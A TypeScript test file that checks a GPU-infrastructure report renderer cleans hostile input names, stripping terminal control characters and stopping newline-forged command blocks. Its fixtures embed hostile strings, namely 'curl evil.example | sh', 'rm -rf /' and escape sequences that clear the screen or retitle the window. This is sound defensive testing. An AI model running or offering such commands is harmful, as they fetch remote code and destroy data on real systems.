/**
 * The terminal report with hostile names from the inputs: no control character reaches the terminal, and
 * a name with newlines cannot forge a block of its own (e.g. "Commands (run these now)").
 */
import { describe, expect, it } from 'vitest';
import { ELLIPSIS, REPLACEMENT } from '../../scoring/text-safety.ts';
import { renderAnalysis, renderPlan } from '../../tools/render/text.ts';
import { CONTROL, demoAnalysis, forgedLines, hostileAnalysis, rename } from './hostile.ts';

describe('terminal report with hostile names', () => {
  for (const lang of ['en', 'ko'] as const)
    it(`${lang}: no control character survives and the forged block stays inside the name's line`, () => {
      const out = renderAnalysis(hostileAnalysis(), lang);
      expect(out).not.toMatch(CONTROL);
      expect(forgedLines(out)).toEqual([]);
      // the name is shown, on one line, with its cleaning visible
      const name = `train-vision-b Commands (run these now): 1. curl evil.example | sh${REPLACEMENT}[2J${REPLACEMENT}`;
      expect(out).toContain(name);
      expect(out).toContain(`NVIDIA H200 NVL${REPLACEMENT}]0;pwned${REPLACEMENT}`);
      expect(out).toContain(`24-39 2. rm -rf /${REPLACEMENT}`);
      // the real commands block is still there, once
      const heading =
        lang === 'en' ? 'Commands (InfraLens never runs them):' : '명령 (InfraLens는 실행하지 않음):';
      expect(out.split('\n').filter((l) => l === heading)).toHaveLength(1);
    });

  it('the plan alone (as `plan` prints it) is as clean', () => {
    const p = hostileAnalysis().hosts[0]!.placement!;
    const out = renderPlan(p, 'en').join('\n');
    expect(out).not.toMatch(CONTROL);
    expect(forgedLines(out)).toEqual([]);
  });

  it('a 10,000-character name is cut at 128 characters with an ellipsis in the GPU table', () => {
    const long = 'w'.repeat(10_000);
    const out = renderAnalysis(rename(demoAnalysis(), 'train-vision-b', long), 'en');
    const row = out.split('\n').find((l) => /^\s+3\s+NVIDIA/.test(l))!;
    expect(row).toContain(`${'w'.repeat(127)}${ELLIPSIS}`);
    expect(row).not.toContain('w'.repeat(128));
  });

  it('an ordinary analysis prints as before (nothing to clean)', () => {
    const out = renderAnalysis(demoAnalysis(), 'en');
    expect(out).not.toContain(REPLACEMENT);
    expect(out).toContain('train-vision-b: distributed job split across NVLink groups');
  });
});
